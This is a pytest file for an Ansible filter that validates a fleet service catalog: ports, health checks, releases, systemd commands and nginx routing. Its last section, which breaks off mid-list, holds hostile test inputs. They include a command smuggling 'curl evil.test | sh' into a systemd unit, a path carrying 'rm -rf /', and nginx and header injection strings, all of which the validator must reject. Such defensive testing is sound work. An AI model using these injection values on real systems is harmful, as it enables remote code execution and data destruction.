"""Unit tests for filter_plugins/fleet_catalog.py."""

from __future__ import annotations

import copy
from pathlib import Path
from typing import Any

import pytest
import yaml
from ansible.errors import AnsibleFilterError

from filter_plugins import fleet_catalog
from filter_plugins.fleet_catalog import (
    FilterModule,
    fleet_exec_command,
    fleet_idle_slot,
    fleet_release_archive,
    fleet_release_checksum,
    fleet_services_on_host,
    fleet_validated_catalog,
)

GROUPS: dict[str, list[str]] = {"fleet": ["h1", "h2", "h3"], "web": ["h1", "h2"], "gpu": ["h3"]}
STORE = "/srv/fleet/releases"
SHA = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"


def _service(name: str, port: int) -> dict[str, Any]:
    """One entry as inventories/lab/group_vars/all/fleet_services.yml writes it."""
    return {
        "port": port,
        "group": "fleet",
        "health": {"path": "/health"},
        "release": {"version": "1.0.0", "archive": f"{STORE}/demo-service-{{version}}.tar.gz"},
        "command": "/usr/bin/python3 app.py --port {port}",
        "environment": {"DEMO_SERVICE_NAME": name},
        "nginx": {"server_names": [f"{name}.fleet.test"]},
    }


def example_catalog() -> dict[str, dict[str, Any]]:
    """The operators' catalog (a fresh copy each call, so tests may change it)."""
    return {
        "zapier-mcp": _service("zapier-mcp", 8090),
        "personas-api": _service("personas-api", 8000),
        "main-api": _service("main-api", 8010),
        "infrastructure": _service("infrastructure", 8080),
    }


# The deploy section's hooks when the catalog gives none.
NO_HOOKS = {"pre_deploy": {"command": "", "timeout": 300, "backup": False}, "smoke": [],
            "notify": {"webhook_set": False}}


def problems(services: Any, groups: Any = None, **kwargs: Any) -> list[str]:
    """The problem lines fleet_validated_catalog raises for `services`."""
    with pytest.raises(AnsibleFilterError) as raised:
        fleet_validated_catalog(services, GROUPS if groups is None else groups, **kwargs)
    return str(raised.value.message).splitlines()


def problem(services: Any, prefix: str, *fragments: str, **kwargs: Any) -> str:
    """The one problem line starting with `prefix`, checked to contain every fragment."""
    lines = problems(services, **kwargs)
    matching = [line for line in lines if line.startswith(prefix)]
    assert len(matching) == 1, f"expected one line starting {prefix!r} in {lines}"
    for fragment in fragments:
        assert fragment in matching[0], f"{fragment!r} not in {matching[0]!r}"
    return matching[0]


def with_change(name: str, path: str, value: Any) -> dict[str, dict[str, Any]]:
    """The example catalog with `path` (dotted, e.g. 'health.path') of service `name` set to `value`.

    A value of DELETE removes the key.
    """
    services = example_catalog()
    target = services[name]
    *parents, leaf = path.split(".")
    for key in parents:
        target = target.setdefault(key, {})
    if value is DELETE:
        del target[leaf]
    else:
        target[leaf] = value
    return services


DELETE = object()


# --------------------------------------------------------------------------- a valid catalog

def test_example_catalog_is_valid_with_derived_keys() -> None:
    catalog = fleet_validated_catalog(example_catalog(), GROUPS)
    assert sorted(catalog) == ["infrastructure", "main-api", "personas-api", "zapier-mcp"]
    svc = catalog["zapier-mcp"]
    assert svc["name"] == "zapier-mcp"
    assert (svc["port"], svc["blue_port"], svc["green_port"]) == (8090, 8090, 9090)
    assert svc["slots"] == [8090, 9090]
    assert svc["hosts"] == ["h1", "h2", "h3"]
    assert svc["certificate_issuer"] == "h1"
    assert svc["unit"] == "zapier-mcp@"
    assert svc["upstream"] == "fleet_zapier_mcp"


def test_defaults_are_filled_in() -> None:
    services = {"api": {"port": 8000, "group": "web", "command": "/srv/api/run --port {port}",
                        "release": {"version": "2.0", "archive": "https://releases.test/api-{version}.tar.gz",
                                    "sha256": SHA},
                        "nginx": {"server_names": ["api.test"]}}}
    svc = fleet_validated_catalog(services, GROUPS)["api"]
    assert svc["description"] == "api (fleet service)"
    assert svc["health"] == {"path": "/health", "status": 200, "body": "", "timeout": 60,
                             "interval": 0.1, "start_grace": 0}
    assert svc["release"]["keep"] == 5
    assert svc["environment_names"] == []
    assert svc["nginx"] == {"server_names": ["api.test"], "location": "/", "rate_limit": None,
                            "maintenance_page": ""}
    assert svc["drain_timeout"] == 30
    assert svc["deploy"] == {"watch": 30, "max_error_share": 0.01, "max_p99_ms": None, "min_requests": 100,
                             **NO_HOOKS}
    assert svc["user"] == "fleet"
    assert svc["hosts"] == ["h1", "h2"]


def test_given_values_are_kept_and_environment_values_are_not() -> None:
    services = with_change("main-api", "health", {"path": "/ready", "status": 204, "body": "ok",
                                                  "timeout": 5, "interval": 0.1, "start_grace": 2})
    services["main-api"].update(environment={"WORKERS": 4, "RATIO": 0.5, "MODE": "fast"}, drain_timeout=10,
                                user="api", description="Main API")
    services["main-api"]["release"]["keep"] = 3
    svc = fleet_validated_catalog(services, GROUPS)["main-api"]
    assert svc["health"] == {"path": "/ready", "status": 204, "body": "ok", "timeout": 5,
                             "interval": 0.1, "start_grace": 2}
    # Only the names: the values are secrets, and the catalog becomes a fact Ansible prints.
    assert svc["environment_names"] == ["MODE", "RATIO", "WORKERS"]
    assert "environment" not in svc
    assert (svc["drain_timeout"], svc["user"], svc["description"]) == (10, "api", "Main API")
    assert svc["release"]["keep"] == 3


def test_input_is_not_mutated_and_result_is_new() -> None:
    services = example_catalog()
    before = copy.deepcopy(services)
    catalog = fleet_validated_catalog(services, GROUPS)
    assert services == before
    for name, svc in catalog.items():
        assert svc is not services[name]
        assert svc["health"] is not services[name]["health"]


def test_highest_port_is_allowed() -> None:
    services = with_change("zapier-mcp", "port", 64535)
    assert fleet_validated_catalog(services, GROUPS)["zapier-mcp"]["slots"] == [64535, 65535]


def test_location_routed_service_on_default_server() -> None:
    services = with_change("main-api", "nginx", {"location": "/main/"})
    assert fleet_validated_catalog(services, GROUPS)["main-api"]["nginx"] == {"server_names": [],
                                                                              "location": "/main/",
                                                                              "rate_limit": None,
                                                                              "maintenance_page": ""}


def test_inventory_catalog_is_valid() -> None:
    """The catalog the lab inventory ships passes (fleet_release_store replaced by a literal path)."""
    path = Path(__file__).resolve().parents[2] / "inventories/lab/group_vars/all/fleet_services.yml"
    if not path.exists():
        pytest.skip(f"{path} not present")
    text = path.read_text().replace("{{ fleet_release_store }}", STORE)
    catalog = fleet_validated_catalog(yaml.safe_load(text)["fleet_services"], GROUPS)
    assert catalog["zapier-mcp"]["port"] != 80


# --------------------------------------------------------------------------- ports

def test_operators_real_mistake_zapier_mcp_on_port_80() -> None:
    line = problem(with_change("zapier-mcp", "port", 80), "fleet_services.zapier-mcp.port:",
                   "80 is reserved", "22, 80, 443", "pick a free port such as")
    suggested = int(line.rsplit(" ", 1)[1])
    assert fleet_validated_catalog(with_change("zapier-mcp", "port", suggested), GROUPS)


@pytest.mark.parametrize("port", [22, 443])
def test_reserved_ports_are_rejected(port: int) -> None:
    problem(with_change("main-api", "port", port), "fleet_services.main-api.port:", f"{port} is reserved")


def test_green_slot_in_reserved_ports_is_rejected() -> None:
    problem(with_change("main-api", "port", 8010), "fleet_services.main-api.port:",
            "green slot 9010", "reserved", reserved_ports=[22, 80, 443, 9010])


def test_missing_port() -> None:
    problem(with_change("main-api", "port", DELETE), "fleet_services.main-api.port:", "is required")


@pytest.mark.parametrize("port", ["8010", True, 8010.0, None])
def test_non_integer_port(port: Any) -> None:
    expected = "is required" if port is None else "must be a whole number"
    problem(with_change("main-api", "port", port), "fleet_services.main-api.port:", expected)


@pytest.mark.parametrize("port", [0, -5])
def test_port_below_one(port: int) -> None:
    problem(with_change("main-api", "port", port), "fleet_services.main-api.port:", "between 1 and 64535")


def test_port_without_room_for_green_slot() -> None:
    problem(with_change("main-api", "port", 64536), "fleet_services.main-api.port:",
            "65536 > 65535", "the largest allowed port is 64535")


def test_green_slot_collides_with_other_blue_slot() -> None:
    services = {"a": {**_service("a", 9000)}, "b": {**_service("b", 8000)}}
    problem(services, "fleet_services.b.port:",
            "slot 9000 (green) collides with slot 9000 of service 'a' (blue)")


def test_blue_slot_collides_with_other_green_slot() -> None:
    services = with_change("infrastructure", "port", 9000)  # personas-api's green slot
    problem(services, "fleet_services.personas-api.port:",
            "slot 9000 (green) collides with slot 9000 of service 'infrastructure' (blue)")


def test_same_port_collides_on_both_slots() -> None:
    lines = problems(with_change("main-api", "port", 8000))
    assert [line for line in lines if line.startswith("fleet_services.personas-api.port:")] == [
        line for line in lines if "collides" in line]
    text = "\n".join(lines)
    assert "slot 8000 (blue) collides with slot 8000 of service 'main-api' (blue)" in text
    assert "slot 9000 (green) collides with slot 9000 of service 'main-api' (green)" in text


# --------------------------------------------------------------------------- name, group, keys

@pytest.mark.parametrize("name", ["Zapier_MCP", "-api", "api.v2", ""])
def test_bad_service_name(name: str) -> None:
    services = {name: _service("x", 8000)}
    problem(services, f"fleet_services.{name}:", "must match ^[a-z0-9][a-z0-9-]*$", "systemd unit")


def test_service_that_is_not_a_mapping() -> None:
    problem({"api": "8000"}, "fleet_services.api:", "must be a mapping")


def test_missing_group() -> None:
    problem(with_change("main-api", "group", DELETE), "fleet_services.main-api.group:", "is required")


def test_unknown_group() -> None:
    problem(with_change("main-api", "group", "gpus"), "fleet_services.main-api.group:",
            "'gpus' is not an inventory group", "fleet, gpu, web")


def test_group_without_hosts() -> None:
    problem(with_change("main-api", "group", "empty"), "fleet_services.main-api.group:",
            "group 'empty' has no hosts in the inventory", groups={**GROUPS, "empty": []})


def test_unknown_service_key() -> None:
    problem(with_change("main-api", "ports", 1), "fleet_services.main-api.ports:",
            "unknown key 'ports'", "did you mean 'port'?", "allowed keys are: command, deploy, description")


@pytest.mark.parametrize(("section", "key"),
                         [("health", "code"), ("release", "url"), ("nginx", "server_name")])
def test_unknown_sub_keys(section: str, key: str) -> None:
    problem(with_change("main-api", f"{section}.{key}", "x"), f"fleet_services.main-api.{section}.{key}:",
            f"unknown key '{key}'", "allowed keys are:")


# --------------------------------------------------------------------------- health

def test_health_path_must_start_with_slash() -> None:
    problem(with_change("main-api", "health.path", "health"), "fleet_services.main-api.health.path:",
            "must start with '/'", "path: /health")


def test_health_must_be_a_mapping() -> None:
    problem(with_change("main-api", "health", "/health"), "fleet_services.main-api.health:",
            "must be a mapping")


@pytest.mark.parametrize("status", [99, 600, "200", True])
def test_health_status(status: Any) -> None:
    problem(with_change("main-api", "health.status", status), "fleet_services.main-api.health.status:",
            "between 100 and 599")


@pytest.mark.parametrize(("field", "value"), [("timeout", 0), ("timeout", "60"), ("interval", -1),
                                              ("interval", 0), ("start_grace", -1)])
def test_health_seconds(field: str, value: Any) -> None:
    problem(with_change("main-api", f"health.{field}", value), f"fleet_services.main-api.health.{field}:",
            "must be a number of seconds")


def test_health_start_grace_may_be_zero() -> None:
    services = with_change("main-api", "health.start_grace", 0)
    assert fleet_validated_catalog(services, GROUPS)["main-api"]["health"]["start_grace"] == 0


def test_health_body_must_be_a_string() -> None:
    problem(with_change("main-api", "health.body", 1), "fleet_services.main-api.health.body:",
            "must be a string")


# --------------------------------------------------------------------------- release

def test_missing_release() -> None:
    problem(with_change("main-api", "release", DELETE), "fleet_services.main-api.release:", "is required")


@pytest.mark.parametrize("version", [1.0, 2])
def test_numeric_version_must_be_quoted(version: Any) -> None:
    problem(with_change("main-api", "release.version", version), "fleet_services.main-api.release.version:",
            "must be a string", "quote it")


@pytest.mark.parametrize(("version", "expected"), [(DELETE, "is required"), ("", "must not be empty"),
                                                   ("../1.0", "names a release directory")])
def test_bad_version(version: Any, expected: str) -> None:
    problem(with_change("main-api", "release.version", version), "fleet_services.main-api.release.version:",
            expected)


@pytest.mark.parametrize(("archive", "expected"), [
    (DELETE, "is required"),
    ("releases/app-{version}.tar.gz", "absolute path on the controller"),
    ("ftp://host/app.tar.gz", "uses 'ftp:'; releases are fetched over https:// only"),
    ("http://host/app-{version}.tar.gz", "uses 'http:'; releases are fetched over https:// only"),
    ("HTTPS://host/app-{version}.tar.gz", "uses 'HTTPS:'"),
    ("file:///srv/app-{version}.tar.gz", "uses 'file:'"),
    ("https:///app-{version}.tar.gz", "not a valid https URL"),
    ("https://host/app {version}.tar.gz", "not a valid https URL"),
    ("/srv/app-{version}.zip", "must point to a .tar.gz archive"),
])
def test_bad_archive(archive: Any, expected: str) -> None:
    problem(with_change("main-api", "release.archive", archive), "fleet_services.main-api.release.archive:",
            expected)


def test_url_archive_is_accepted_with_a_checksum() -> None:
    services = with_change("main-api", "release", {"version": "1.0.0", "sha256": SHA.upper(),
                                                   "archive": "https://r.test/main-api-{version}.tar.gz?x=1"})
    release = fleet_validated_catalog(services, GROUPS)["main-api"]["release"]
    assert release["archive"].startswith("https://")
    assert release["sha256"] == SHA  # get_url compares it as given: kept in lower case


def test_url_archive_needs_a_checksum() -> None:
    services = with_change("main-api", "release.archive", "https://r.test/main-api-{version}.tar.gz")
    problem(services, "fleet_services.main-api.release.sha256:", "is required with an https archive",
            "sha256sum")


def test_local_archive_may_carry_a_checksum() -> None:
    assert fleet_validated_catalog(example_catalog(), GROUPS)["main-api"]["release"]["sha256"] == ""
    services = with_change("main-api", "release.sha256", SHA)
    assert fleet_validated_catalog(services, GROUPS)["main-api"]["release"]["sha256"] == SHA


@pytest.mark.parametrize("sha256", [SHA[:-1], SHA + "0", "z" * 64, SHA + "\n", 12345, ""])
def test_bad_checksum(sha256: Any) -> None:
    problem(with_change("main-api", "release.sha256", sha256), "fleet_services.main-api.release.sha256:",
            "64 hex digits")


@pytest.mark.parametrize("keep", [1, "5"])
def test_release_keep(keep: Any) -> None:
    problem(with_change("main-api", "release.keep", keep), "fleet_services.main-api.release.keep:",
            "at least 2")


# --------------------------------------------------------------------------- command, environment, ...

@pytest.mark.parametrize(("command", "expected"), [
    (DELETE, "is required"), ("  ", "must not be empty"), (["python3", "app.py"], "must be a string"),
    ("/usr/bin/app\n--evil", "control character '\\n'"),
    ("/usr/bin/app --name 'a b", "unbalanced quote"),
    ("/usr/bin/app \\", "trailing backslash"),
    ("bin/app", "starts with 'bin/app'"),
    ("/usr/../bin/app", "absolute path"),
    ("-/usr/bin/app", "ExecStart prefixes"),
    ("!/usr/bin/app", "ExecStart prefixes"),
    ("@/usr/bin/app app", "ExecStart prefixes"),
    ("'/usr/bin/my app'", "starts with '/usr/bin/my app'"),
])
def test_bad_command(command: Any, expected: str) -> None:
    problem(with_change("main-api", "command", command), "fleet_services.main-api.command:", expected)


@pytest.mark.parametrize(("key", "value", "expected"), [
    ("1BAD", "x", "not a valid variable name"),
    ("BAD-NAME", "x", "not a valid variable name"),
    ("DEBUG", True, "must be a string or a number"),
    ("OPTS", {"a": 1}, "must be a string or a number"),
    ("MULTI", "a\nb", "control character '\\n'"),
    ("ESC", "a\x1bb", "control character '\\x1b'"),
    ("FLEET_SLOT_PORT", "80", "set by fleet for every slot"),
])
def test_bad_environment(key: str, value: Any, expected: str) -> None:
    problem(with_change("main-api", f"environment.{key}", value),
            f"fleet_services.main-api.environment.{key}:", expected)


def test_environment_values_may_hold_any_printable_text_and_tabs() -> None:
    """fleet_systemd_env_value writes them so that systemd gives them back unchanged."""
    values = {"QUOTES": "say \"hi\" 'x'", "BACKSLASH": "C:\\new", "DOLLAR": "$HOME ${X} `id` %i",
              "TEXT": "Zoë 漢字 \u2028", "TAB": "a\tb", "EMPTY": ""}
    services = with_change("main-api", "environment", values)
    assert fleet_validated_catalog(services, GROUPS)["main-api"]["environment_names"] == sorted(values)


def test_no_environment_value_is_in_the_catalog_or_in_a_message() -> None:
    secret = "s3cret-value-8d1f"
    services = with_change("main-api", "environment", {"TOKEN": secret, "BAD NAME": secret, "LIST": [secret]})
    with pytest.raises(AnsibleFilterError) as err:
        fleet_validated_catalog(services, GROUPS)
    assert "environment.LIST" in str(err.value) and secret not in str(err.value)
    services = with_change("main-api", "environment", {"TOKEN": secret})
    assert secret not in repr(fleet_validated_catalog(services, GROUPS))


@pytest.mark.parametrize("timeout", [0, True, "30"])
def test_bad_drain_timeout(timeout: Any) -> None:
    problem(with_change("main-api", "drain_timeout", timeout), "fleet_services.main-api.drain_timeout:",
            "at least 1")


def test_deploy_section_given_values_are_kept_and_the_rest_filled_in() -> None:
    services = with_change("main-api", "deploy", {"watch": 2.5, "max_p99_ms": 250})
    assert fleet_validated_catalog(services, GROUPS)["main-api"]["deploy"] == {
        "watch": 2.5, "max_error_share": 0.01, "max_p99_ms": 250, "min_requests": 100, **NO_HOOKS}
    services = with_change("main-api", "deploy", {"watch": 0, "max_error_share": 0, "max_p99_ms": None,
                                                  "min_requests": 1})
    assert fleet_validated_catalog(services, GROUPS)["main-api"]["deploy"] == {
        "watch": 0, "max_error_share": 0, "max_p99_ms": None, "min_requests": 1, **NO_HOOKS}


@pytest.mark.parametrize(("key", "value", "fragment"), [
    ("watch", -1, "from 0 (no watch) to 600"),
    ("watch", 601, "from 0 (no watch) to 600"),
    ("watch", "30s", "got a string ('30s')"),
    ("watch", True, "got a boolean"),
    ("max_error_share", 1.5, "from 0 to 1 (0.01 is 1%)"),
    ("max_error_share", "1%", "from 0 to 1 (0.01 is 1%)"),
    ("max_p99_ms", 0, "above 0, or null"),
    ("max_p99_ms", "100ms", "above 0, or null"),
    ("max_p99_ms", float("inf"), "above 0, or null"),
    ("min_requests", 0, "between 1 and 1000000"),
    ("min_requests", 2.5, "whole number"),
    ("wach", 30, "unknown key 'wach' (did you mean 'watch'?)"),
])
def test_bad_deploy_section(key: str, value: Any, fragment: str) -> None:
    problem(with_change("main-api", "deploy", {key: value}), f"fleet_services.main-api.deploy.{key}:", fragment)


def test_hooks_are_checked_and_filled_in_and_the_webhook_url_is_not_returned() -> None:
    url = "https://hooks.example.com/services/T0/B0/secret"
    services = with_change("main-api", "deploy", {
        "pre_deploy": {"command": "./manage.py migrate --noinput", "backup": True},
        "smoke": [{"path": "/api/ping", "body": "pong"}, {"method": "post", "path": "/api/echo?x=1", "status": 201}],
        "notify": {"webhook": url}})
    deploy = fleet_validated_catalog(services, GROUPS)["main-api"]["deploy"]
    assert deploy["pre_deploy"] == {"command": "./manage.py migrate --noinput", "timeout": 300, "backup": True}
    assert deploy["smoke"] == [{"method": "GET", "path": "/api/ping", "status": 200, "body": "pong"},
                               {"method": "POST", "path": "/api/echo?x=1", "status": 201, "body": ""}]
    assert deploy["notify"] == {"webhook_set": True}
    assert url not in repr(fleet_validated_catalog(services, GROUPS))
    backup_only = with_change("main-api", "deploy", {"pre_deploy": {"backup": True}, "notify": {"webhook": ""}})
    deploy = fleet_validated_catalog(backup_only, GROUPS)["main-api"]["deploy"]
    assert deploy["pre_deploy"]["command"] == "" and deploy["notify"] == {"webhook_set": False}


@pytest.mark.parametrize(("hooks", "prefix", "fragment"), [
    ({"pre_deploy": {}}, "deploy.pre_deploy:", "says nothing to run: give it a command, backup: true or both"),
    ({"pre_deploy": "migrate"}, "deploy.pre_deploy:", "must be a mapping, got a string"),
    ({"pre_deploy": {"command": "migrate", "timeout": "5m"}}, "deploy.pre_deploy.timeout:",
     "whole number between 1 and 3600"),
    ({"pre_deploy": {"command": "migrate", "timeout": 0}}, "deploy.pre_deploy.timeout:", "between 1 and 3600"),
    ({"pre_deploy": {"command": "a\nb"}}, "deploy.pre_deploy.command:", "control character '\\n'"),
    ({"pre_deploy": {"command": " "}}, "deploy.pre_deploy.command:", "must not be empty"),
    ({"pre_deploy": {"backup": "yes"}}, "deploy.pre_deploy.backup:", "must be true or false, got a string"),
    ({"pre_deploy": {"comand": "x"}}, "deploy.pre_deploy.comand:", "did you mean 'command'?"),
    ({"smoke": {"path": "/"}}, "deploy.smoke:", "must be a list of checks"),
    ({"smoke": [{"path": "/"}] * 21}, "deploy.smoke:", "more than 20"),
    ({"smoke": ["/api/ping"]}, "deploy.smoke[0]:", "must be a mapping"),
    ({"smoke": [{"method": "GET"}]}, "deploy.smoke[0].path:", "is required; e.g. path: /api/ping"),
    ({"smoke": [{"path": "api/ping"}]}, "deploy.smoke[0].path:", "must start with '/'"),
    ({"smoke": [{"path": "/a b"}]}, "deploy.smoke[0].path:", "no spaces"),
    ({"smoke": [{"path": "/", "method": "FETCH"}]}, "deploy.smoke[0].method:", "is not one of GET, HEAD, POST"),
    ({"smoke": [{"path": "/", "status": "200"}]}, "deploy.smoke[0].status:", "whole number between 100 and 599"),
    ({"smoke": [{"path": "/", "status": 600}]}, "deploy.smoke[0].status:", "between 100 and 599"),
    ({"smoke": [{"path": "/", "body": 5}]}, "deploy.smoke[0].body:", "must be a string"),
    ({"smoke": [{"path": "/", "expect": 200}]}, "deploy.smoke[0].expect:", "allowed keys are: body, method"),
    ({"notify": {"webhook": "ftp://hooks.example.com/x"}}, "deploy.notify.webhook:", "http:// or https:// URL"),
    ({"notify": {"webhook": "https://"}}, "deploy.notify.webhook:", "with a host"),
    ({"notify": {"webhook": 5}}, "deploy.notify.webhook:", "got an integer"),
    ({"notify": {"url": "https://x.test"}}, "deploy.notify.url:", "allowed keys are: webhook"),
    ({"notify": "https://x.test"}, "deploy.notify:", "must be a mapping"),
])
def test_bad_hooks_name_the_field(hooks: dict[str, Any], prefix: str, fragment: str) -> None:
    line = problem(with_change("main-api", "deploy", hooks), f"fleet_services.main-api.{prefix}", fragment)
    assert "secret" not in line or "not shown" in line  # a webhook URL is never quoted back


def test_deploy_section_must_be_a_mapping() -> None:
    problem(with_change("main-api", "deploy", 30), "fleet_services.main-api.deploy:", "must be a mapping",
            "deploy: {watch: 30")


@pytest.mark.parametrize("user", ["Root User", 0, "fleet\n", "a" * 33])
def test_bad_user(user: Any) -> None:
    problem(with_change("main-api", "user", user), "fleet_services.main-api.user:")


# --------------------------------------------------------------------------- nginx

def test_default_server_service_needs_a_location() -> None:
    problem(with_change("main-api", "nginx", {"server_names": []}), "fleet_services.main-api.nginx.location:",
            "no server_names", "other than '/'")
    problem(with_change("main-api", "nginx", DELETE), "fleet_services.main-api.nginx.location:",
            "no server_names")


def test_location_must_start_with_slash() -> None:
    problem(with_change("main-api", "nginx.location", "api"), "fleet_services.main-api.nginx.location:",
            "must start with '/'")


def test_location_must_end_with_slash() -> None:
    problem(with_change("main-api", "nginx.location", "/api"), "fleet_services.main-api.nginx.location:",
            "must end with '/'", "doubled slash", "location: /api/")


@pytest.mark.parametrize("location", ["/a b/", "/a;/", "/{a}/", "/a$b/", "/'a'/", "/a//", "/../", "/a/./",
                                      "/a%20b/"])
def test_location_characters(location: str) -> None:
    problem(with_change("main-api", "nginx.location", location), "fleet_services.main-api.nginx.location:",
            "may only hold path segments")


@pytest.mark.parametrize("location", ["/", "/api/", "/api/v1.2/", "/a_b~c-d/"])
def test_good_locations(location: str) -> None:
    assert fleet_validated_catalog(with_change("main-api", "nginx.location", location), GROUPS)


@pytest.mark.parametrize("name", ["API.test", "a_b.test", "-a.test", "a-.test", "a..test", ".a.test", "a.test.",
                                  "www.a.*", "~^www\\.", "a.*.test", "*", "_", "", "x" * 64 + ".test"])
def test_bad_server_names(name: str) -> None:
    problem(with_change("main-api", "nginx.server_names", [name]), "fleet_services.main-api.nginx.server_names:",
            "lower-case DNS names")


def test_good_server_names_and_duplicates() -> None:
    names = ["localhost", "*.example.com", "a-1.b2.example", "x" * 63 + ".test"]
    catalog = fleet_validated_catalog(with_change("main-api", "nginx.server_names", names), GROUPS)
    assert catalog["main-api"]["nginx"]["server_names"] == names
    problem(with_change("main-api", "nginx.server_names", ["a.test", "a.test"]),
            "fleet_services.main-api.nginx.server_names:", "listed twice")


@pytest.mark.parametrize("path", ["/health", "/healthz?full=1&x=%2F", "/a/b:c@d/(e)*+,=$!~"])
def test_good_health_paths(path: str) -> None:
    assert fleet_validated_catalog(with_change("main-api", "health.path", path), GROUPS)


@pytest.mark.parametrize("path", ["/he alth", "/health#x", "/a{b}", "/a;b", "/a'b", "/a\\b", "/%zz", "/a<b>"])
def test_bad_health_path_characters(path: str) -> None:
    problem(with_change("main-api", "health.path", path), "fleet_services.main-api.health.path:",
            "is not a URL path")


def test_server_names_must_be_a_list() -> None:
    problem(with_change("main-api", "nginx.server_names", "api.test"),
            "fleet_services.main-api.nginx.server_names:", "must be a list")


@pytest.mark.parametrize("location", ["/", "/p/"])
def test_a_server_name_belongs_to_one_service(location: str) -> None:
    """nginx serves a name from one server block: a second service's block of the same name, even
    on another location, would be ignored ("conflicting server name")."""
    services = with_change("personas-api", "nginx", {"server_names": ["main-api.fleet.test"], "location": location})
    problem(services, "fleet_services.personas-api.nginx.server_names:",
            "server_name 'main-api.fleet.test' is already served by service 'main-api'")


def test_default_server_locations_collide() -> None:
    services = with_change("main-api", "nginx", {"location": "/api/"})
    services["personas-api"]["nginx"] = {"location": "/api/"}
    problem(services, "fleet_services.personas-api.nginx.location:",
            "location '/api/' on nginx's default server is already routed to service 'main-api'")


# --------------------------------------------------------------------------- nginx rate limits

@pytest.mark.parametrize(("given", "expected"), [
    ({"rate": 10}, {"rate": 10, "burst": 10}),  # burst defaults to one second's worth
    ({"rate": 1, "burst": 0}, {"rate": 1, "burst": 0}),
    ({"rate": 5, "burst": 100}, {"rate": 5, "burst": 100}),
    ({"rate": 1_000_000, "burst": 1_000_000}, {"rate": 1_000_000, "burst": 1_000_000}),
])
def test_rate_limit_is_normalised_with_its_zone(given: dict[str, Any], expected: dict[str, Any]) -> None:
    catalog = fleet_validated_catalog(with_change("main-api", "nginx.rate_limit", given), GROUPS)
    assert catalog["main-api"]["nginx"]["rate_limit"] == {**expected, "zone": "fleet_rate_main_api"}
    assert catalog["personas-api"]["nginx"]["rate_limit"] is None  # absent: no limit


def test_rate_limit_null_means_no_limit() -> None:
    catalog = fleet_validated_catalog(with_change("main-api", "nginx.rate_limit", None), GROUPS)
    assert catalog["main-api"]["nginx"]["rate_limit"] is None


def test_rate_limit_zones_are_unique_per_service() -> None:
    services = example_catalog()
    for spec in services.values():
        spec["nginx"]["rate_limit"] = {"rate": 3}
    zones = [svc["nginx"]["rate_limit"]["zone"] for svc in fleet_validated_catalog(services, GROUPS).values()]
    assert sorted(zones) == ["fleet_rate_infrastructure", "fleet_rate_main_api", "fleet_rate_personas_api",
                             "fleet_rate_zapier_mcp"]


def test_rate_limit_on_a_location_routed_service() -> None:
    services = with_change("main-api", "nginx", {"location": "/main/", "rate_limit": {"rate": 2, "burst": 4}})
    nginx = fleet_validated_catalog(services, GROUPS)["main-api"]["nginx"]
    assert nginx["rate_limit"] == {"rate": 2, "burst": 4, "zone": "fleet_rate_main_api"}


@pytest.mark.parametrize(("given", "field", "expected"), [
    ({"rate": 0}, "rate", "must be between 1 and 1000000, got 0; e.g. rate: 10"),
    ({"rate": -5}, "rate", "must be between 1 and 1000000, got -5"),
    ({"rate": "10"}, "rate", "must be a whole number between 1 and 1000000, got a string ('10')"),
    ({"rate": "10r/s"}, "rate", "got a string ('10r/s'); e.g. rate: 10 (requests per second, unquoted)"),
    ({"rate": 2.5}, "rate", "must be a whole number between 1 and 1000000, got a number (2.5)"),
    ({"rate": 10.0}, "rate", "must be a whole number between 1 and 1000000, got a number (10.0)"),
    ({"rate": True}, "rate", "got a boolean (True)"),
    ({"rate": [10]}, "rate", "got a list"),
    ({"rate": 10, "burst": -1}, "burst", "must be between 0 and 1000000, got -1; e.g. burst: 20"),
    ({"rate": 10, "burst": "5"}, "burst", "must be a whole number between 0 and 1000000, got a string ('5')"),
    ({"rate": 10, "burst": 1.5}, "burst", "got a number (1.5)"),
    ({"rate": 1_000_001}, "rate", "must be between 1 and 1000000, got 1000001"),
    ({"rate": 10**30}, "rate", "must be between 1 and 1000000"),
    ({"rate": 10, "burst": 1_000_001}, "burst", "must be between 0 and 1000000, got 1000001"),
    ({"burst": 5}, "rate", "is required: requests per second per client address"),
    ({}, "rate", "is required"),
    ({"rate": 10, "brust": 5}, "brust", "unknown key 'brust' (did you mean 'burst'?); allowed keys are: burst, rate"),
    ({"rate": 10, "zone": "x"}, "zone", "unknown key 'zone'"),
])
def test_bad_rate_limit_is_refused_naming_the_field(given: dict[str, Any], field: str, expected: str) -> None:
    problem(with_change("main-api", "nginx.rate_limit", given), f"fleet_services.main-api.nginx.rate_limit.{field}:",
            expected)


@pytest.mark.parametrize("given", ["10r/s", 10, ["rate", 10], True])
def test_rate_limit_must_be_a_mapping(given: Any) -> None:
    problem(with_change("main-api", "nginx.rate_limit", given), "fleet_services.main-api.nginx.rate_limit:",
            "must be a mapping", "e.g. rate_limit: {rate: 10, burst: 20}")


def test_every_rate_limit_problem_is_reported_at_once() -> None:
    lines = problems(with_change("main-api", "nginx.rate_limit", {"rate": 0, "burst": -1, "per": "ip"}))
    assert sorted(line.split(":", 1)[0] for line in lines) == [
        "fleet_services.main-api.nginx.rate_limit.burst", "fleet_services.main-api.nginx.rate_limit.per",
        "fleet_services.main-api.nginx.rate_limit.rate"]


# --------------------------------------------------------------------------- hostile input (issue 13)
# Each of these passed before strict validation: the value would land in nginx's configuration or a
# systemd unit and change what they do.

@pytest.mark.parametrize(("path", "value", "field"), [
    ("nginx.server_names", ["a.example.com;"], "nginx.server_names"),
    ("nginx.server_names", ["a.example.com www.evil.test"], "nginx.server_names"),
    ("nginx.server_names", ["a.example.com\n"], "nginx.server_names"),
    ("nginx.location", "/ {return 200;} location /x/", "nginx.location"),
    ("nginx.location", "/api", "nginx.location"),
    ("nginx.location", "/api/\n", "nginx.location"),
    ("nginx.location", "/a#b/", "nginx.location"),
    ("command", "/usr/bin/python3 app.py\nExecStartPre=/bin/sh -c 'curl evil.test | sh'", "command"),
    ("command", "+/bin/sh -c id", "command"),
    ("command", "./run --port {port}", "command"),
    ("command", "/usr/bin/python3 -c 'print(1)", "command"),
    ("description", "API\nExecStartPre=/bin/true", "description"),
    ("release.version", "1.0\n", "release.version"),
    ("release.archive", "http://r.test/main-api-{version}.tar.gz", "release.archive"),
    ("release.archive", "https://r.test/main-api-{version}.tar.gz", "release.sha256"),
    ("health.path", "/health\n", "health.path"),
    ("health.path", "/health; rm -rf /", "health.path"),
    ("health.path", '/health"', "health.path"),
    ("health.body", "ok\r\nX-Injected: 1", "health.body"),
    ("user", "fleet\n", "user"),
